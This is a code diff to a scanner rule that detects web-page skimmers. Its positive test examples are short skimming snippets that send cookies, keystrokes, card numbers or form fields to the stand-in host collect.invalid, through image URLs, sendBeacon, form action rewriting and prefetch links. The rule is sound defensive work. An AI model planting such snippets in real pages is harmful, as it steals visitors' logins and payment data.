@@ -1,15 +1,54 @@
-import { defineRule, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
+import {
+  beacons,
+  defineRule,
+  fixedAddressIn,
+  fixedTargetOf,
+  outgoing,
+  sinkSays,
+  step,
+  stepsOf,
+} from '../src/define.js';
+import type { AnyNode, FileContext, Label, Step } from '../src/types.js';
+import { isCardPattern, isSensitiveField, isWholeStore } from '../src/vocabulary/page.js';
+
+/** Something of a page that leaves it, or is made ready to. */
+interface Sent {
+  readonly labels: readonly Label[];
+  readonly sink: string;
+  readonly step: Step;
+  /** Where it goes, when the code says so. */
+  readonly address: string | undefined;
+  /** A form is pointed elsewhere, with its own content in the address. */
+  readonly repoints: boolean;
+}
 
 export default defineRule({
   meta: {
     summary: "Sends a web page's cookies, storage or form fields to another machine",
-    why: 'Skimmers read what visitors type and post it elsewhere. Analytics and CSRF helpers read one cookie, and form libraries submit the form they are given, so cookies alone weigh little.',
+    why: 'Skimmers read what visitors type and post it elsewhere. Analytics and CSRF helpers read one cookie, form libraries submit the form they are given to where it says, and a login box sends its own two fields to its own server, so any of these alone weighs little. Looking for password and card fields, whole cookies beside the fields and an address fixed in the code tell a skimmer.',
     behaviour: 'theft',
     messages: {
+      skims: 'Looks for password or card fields and sends what is typed, with the cookies, through {sink}',
+      packs: 'Looks for password or card fields and encodes what is typed together with the cookies',
+      repoints: 'Points a form to an address that holds the form’s fields',
+      sensitive: 'Looks for password or card fields and sends what is typed to an address fixed in its code',
+      keys: 'Sends the keys that are pressed to an address fixed in its code',
       both: 'Sends form fields and cookies of the page through {sink}',
+      cookies: 'Sends all cookies of the page to an address fixed in its code',
+      fields: 'Sends what is typed into the page to an address fixed in its code',
       page: 'Sends {what} of the page through {sink}',
     },
-    bits: { both: 11, page: 3 },
+    bits: {
+      skims: 14,
+      packs: 13.5,
+      repoints: 12,
+      sensitive: 10,
+      keys: 10,
+      both: 11,
+      cookies: 7,
+      fields: 4,
+      page: 2,
+    },
   },
   examples: {
     flags: [
@@ -19,7 +58,19 @@ export default defineRule({
       },
       {
         title: 'the cookies are in an image address',
-        code: `new Image().src = 'https://collect.invalid/?c=' + document.cookie;\nfetch('https://collect.invalid/?c=' + document.cookie);`,
+        code: `new Image().src = 'https://collect.invalid/?c=' + document.cookie;`,
+      },
+      {
+        title: 'a form with a card field is pointed elsewhere',
+        code: `for (const form of document.forms)\n  for (const field of form.elements)\n    if (field.name == 'cvc')\n      form.addEventListener('submit', function () {\n        let all = '';\n        for (const one of this.elements) all += one.name + '=' + one.value;\n        this.action = 'https://collect.invalid/?d=' + btoa(all);\n      });`,
+      },
+      {
+        title: 'keys are collected and sent',
+        code: `let typed = '';\ndocument.addEventListener('keydown', event => { typed += event.key; });\nsetInterval(() => navigator.sendBeacon('https://collect.invalid/k', typed), 5000);`,
+      },
+      {
+        title: 'a card number leaves by a link that is fetched ahead',
+        code: `const field = document.querySelector('input[autocomplete="cc-number"]');\nfield.addEventListener('blur', () => {\n  const link = document.createElement('link');\n  link.rel = 'prefetch';\n  link.href = 'https://collect.invalid/?n=' + encodeURIComponent(field.value);\n  document.head.appendChild(link);\n});`,
       },
     ],
     passes: [
@@ -31,24 +82,123 @@ export default defineRule({
         title: 'a script fetches its own data',
         code: `fetch('/api').then(r => r.json()).then(j => localStorage.setItem('a', j.a));`,
       },
+      {
+        title: 'keys move a selection that is loaded',
+        code: `let at = 0;\ndocument.addEventListener('keydown', event => { if (event.key === 'ArrowDown') at += 1; });\nfetch('https://api.invalid/items?from=' + at);`,
+      },
+      {
+        title: 'a picture is shown that a field names',
+        code: `const select = document.querySelector('select');\nselect.addEventListener('change', () => { document.querySelector('img').alt = select.value; });`,
+      },
     ],
   },
   file(context) {
-    for (const { call, labels } of outgoing(context)) {
-      const page = labels.filter(({ kind }) => kind === 'page');
-      const [first] = page;
-      if (!first) continue;
-      const both =
-        page.some(({ detail }) => /form|elements/.test(detail)) &&
-        page.some(({ detail }) => detail === 'document.cookie');
+    const sent = [...network(context), ...loaded(context)];
+    const packed = sent.length > 0 ? [] : encoded(context);
+    if (sent.length + packed.length === 0) return;
+    let sensitive: AnyNode | null | undefined;
+    const interest = (): AnyNode | undefined => {
+      if (sensitive === undefined) sensitive = sensitiveInterest(context) ?? null;
+      return sensitive ?? undefined;
+    };
+    for (const one of sent) {
+      const messageId = messageOf(one, interest);
+      if (messageId) report(one, messageId);
+    }
+    for (const one of packed) if (interest()) report(one, 'packs');
+
+    function report({ labels, sink, step: last }: Sent, messageId: string): void {
+      const looks = /^(?:skims|packs|sensitive)$/.test(messageId) ? interest() : undefined;
       context.report({
-        messageId: both ? 'both' : 'page',
-        data: { what: first.detail, sink: call.name },
+        messageId,
+        data: { what: labels[0]?.detail ?? '', sink },
         chain: [
-          ...page.slice(0, 3).flatMap(label => stepsOf(label)),
-          step('sink', sinkSays(call), context.file, call.node),
+          ...(looks ? [step('context', 'looks for password or card fields', context.file, looks)] : []),
+          ...labels.slice(0, 3).flatMap(label => stepsOf(label)),
+          last,
         ],
       });
     }
   },
 });
+
+function messageOf({ labels, address, repoints }: Sent, interest: () => AnyNode | undefined): string | undefined {
+  const has = (detail: string): boolean => labels.some(label => label.detail === detail);
+  const typed = has('form fields') || has('keystrokes');
+  const cookies = has('document.cookie');
+  if (typed && cookies) return interest() ? 'skims' : 'both';
+  if (repoints) return address !== undefined && (typed || cookies) ? 'repoints' : undefined;
+  if (address === undefined) return 'page';
+  if (has('keystrokes')) return 'keys';
+  if (typed) return interest() ? 'sensitive' : 'fields';
+  return labels.some(({ detail }) => isWholeStore(detail)) ? 'cookies' : 'page';
+}
+
+function network(context: FileContext): readonly Sent[] {
+  return outgoing(context).flatMap(({ call, labels }) => {
+    const page = labels.filter(({ kind }) => kind === 'page');
+    if (page.length === 0) return [];
+    return {
+      labels: page,
+      sink: call.name,
+      step: step('sink', sinkSays(call), context.file, call.node),
+      address: fixedTargetOf(context, call),
+      repoints: false,
+    };
+  });
+}
+
+/** Addresses with the page's content in them. One without a host is the page's own server. */
+function loaded(context: FileContext): readonly Sent[] {
+  return beacons(context).flatMap(({ node, value, says, name }) => {
+    const page = context.labelsOf(value).filter(({ kind, detail }) => kind === 'page' && detail !== 'content');
+    const address = page.length > 0 ? fixedAddressIn(context.textsOf(value)) : undefined;
+    if (address === undefined) return [];
+    return {
+      labels: page,
+      sink: name,
+      step: step('sink', says, context.file, node),
+      address,
+      repoints: /action/i.test(name),
+    };
+  });
+}
+
+/** Fields and cookies made into one text that travels; where it goes may be put together elsewhere. */
+function encoded(context: FileContext): readonly Sent[] {
+  return context
+    .named(/^(?:btoa|encodeURIComponent)$/)
+    .flatMap(call => {
+      const page = call.args.flatMap(arg => context.labelsOf(arg)).filter(({ kind }) => kind === 'page');
+      if (
+        !page.some(({ detail }) => detail === 'form fields') ||
+        !page.some(({ detail }) => detail === 'document.cookie')
+      )
+        return [];
+      return {
+        labels: page,
+        sink: call.name,
+        step: step('transform', 'encodes them together', context.file, call.node),
+        address: undefined,
+        repoints: false,
+      };
+    })
+    .slice(0, 3);
+}
+
+/** Bounds the comparisons and calls whose texts are worked out. */
+const MOST = 4_000;
+
+/** The first place that singles out fields for passwords or cards. */
+function sensitiveInterest({ nodes, textsOf, named }: FileContext): AnyNode | undefined {
+  for (const node of nodes('BinaryExpression').slice(0, MOST)) {
+    const { operator, left, right } = node as unknown as { operator: string; left: AnyNode; right: AnyNode };
+    if (/^[!=]==?$/.test(operator) && [left, right].some(side => textsOf(side).some(isSensitiveField))) return node;
+  }
+  const looked = named(/querySelector|getElement|\.(?:includes|indexOf|matches|closest|test)$|^\$$/).slice(0, MOST);
+  for (const { node, args } of looked) if (args[0] && textsOf(args[0]).some(isSensitiveField)) return node;
+  return nodes('Literal').find(node => {
+    const { regex } = node as { regex?: { pattern: string } };
+    return regex !== undefined && (isCardPattern(regex.pattern) || isSensitiveField(regex.pattern));
+  });
+}
